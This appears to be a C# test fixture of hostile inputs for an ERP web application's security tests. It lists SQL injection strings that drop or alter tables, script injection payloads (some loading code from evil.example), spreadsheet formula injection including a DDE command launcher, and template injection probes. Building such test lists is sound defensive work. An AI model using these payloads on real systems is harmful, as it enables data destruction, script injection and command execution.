namespace ErpWeb.Tests.Security.Input;

/// <summary>What people type who want something else than an invoice.</summary>
internal static class Payloads
{
    public static IReadOnlyList<string> Sql { get; } =
    [
        "'", "''", "' or '1'='1", "' or 1=1--", "\" or \"\"=\"", "') or ('1'='1", "1; drop table \"Items\"", "'; drop table \"Items\";--", "'; delete from \"Parties\";--",
        "'; update \"Items\" set \"SalePrice\"=1;--", "' union select null--", "' union select \"Hash\" from \"EditLog\"--", "1 union all select 1,2,3", "';select pg_sleep(2)--",
        "'||pg_sleep(2)--", "1) or pg_sleep(2)=0--", "' and randomblob(500000000)--", "'; attach database '/tmp/x.db' as x;--", "load_extension('x')", "' or sleep(2)#",
        "'; waitfor delay '0:0:2'--", "%", "%%", "_", "\\", "\\'", "%' escape '\\", "[a-z]", "*", "?", "@p0", ":p0", "$1", "{0}", "{{0}}", "/*", "*/", "--", "#", ";",
        "Id desc; drop table x", "Name,(select 1)", "(case when 1=1 then Name else Id end)", "1/0", "0x27", "char(39)", "chr(39)||chr(39)", "\u02bc or 1=1", "\uff07 or 1=1--",
        "' or exists(select * from \"Users\")--", "admin'--", "x' and (select count(*) from sqlite_master)>0--", "x' and (select version()) like '%'--", "\0'", "a\0b", "\r\n'", "null", "true", "-1", "1e308",
    ];

    public static IReadOnlyList<string> Script { get; } =
    [
        "<script>window.__x=1</script>", "\"><script>window.__x=1</script>", "'><img src=x onerror=window.__x=1>", "<img src=x onerror=window.__x=1>", "<svg onload=window.__x=1>",
        "<svg/onload=window.__x=1>", "<body onload=window.__x=1>", "<iframe srcdoc='<script>parent.__x=1</script>'>", "<a href=javascript:window.__x=1>a</a>", "javascript:window.__x=1",
        "</title><script>window.__x=1</script>", "</style><script>window.__x=1</script>", "</textarea><script>window.__x=1</script>", "</option></select><img src=x onerror=window.__x=1>",
        "<details open ontoggle=window.__x=1>", "<input autofocus onfocus=window.__x=1>", "<video><source onerror=window.__x=1>", "<math><mi xlink:href=javascript:window.__x=1>",
        "{{constructor.constructor('window.__x=1')()}}", "${window.__x=1}", "<!--<img src=--><img src=x onerror=window.__x=1>", "<x contenteditable onblur=window.__x=1>",
        "<style>@import 'javascript:window.__x=1'</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<object data=//evil.example></object>", "<embed src=//evil.example>", "<form action=//evil.example><button>", "\u003cscript\u003ewindow.__x=1\u003c/script\u003e",
        "&lt;script&gt;window.__x=1&lt;/script&gt;", "%3Cscript%3Ewindow.__x=1%3C/script%3E", "<scr<script>ipt>window.__x=1</script>", "<ScRiPt>window.__x=1</ScRiPt>", "<script src=//evil.example/x.js></script>",
        "\" onmouseover=\"window.__x=1\" x=\"", "' onfocus='window.__x=1' autofocus='", "` onerror=window.__x=1", "\u2028window.__x=1", "]]><script>window.__x=1</script>",
    ];

    public static IReadOnlyList<string> Formulas { get; } =
    [
        .. from sign in (string[])["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"]
           from before in (string[])["", " ", "   ", "\t", "\r", "\n", "\0", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "'", "''", " \u200b "]
           select before + sign + "1+1",
        "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+91 98450 12345", "\tx", "\rx", "\nx",
    ];

    public static IReadOnlyList<string> Templates { get; } = ["{{7*7}}", "@(7*7)", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{constructor}}", "@Model", "{% debug %}", "[[7*7]]", "{0}"];
}
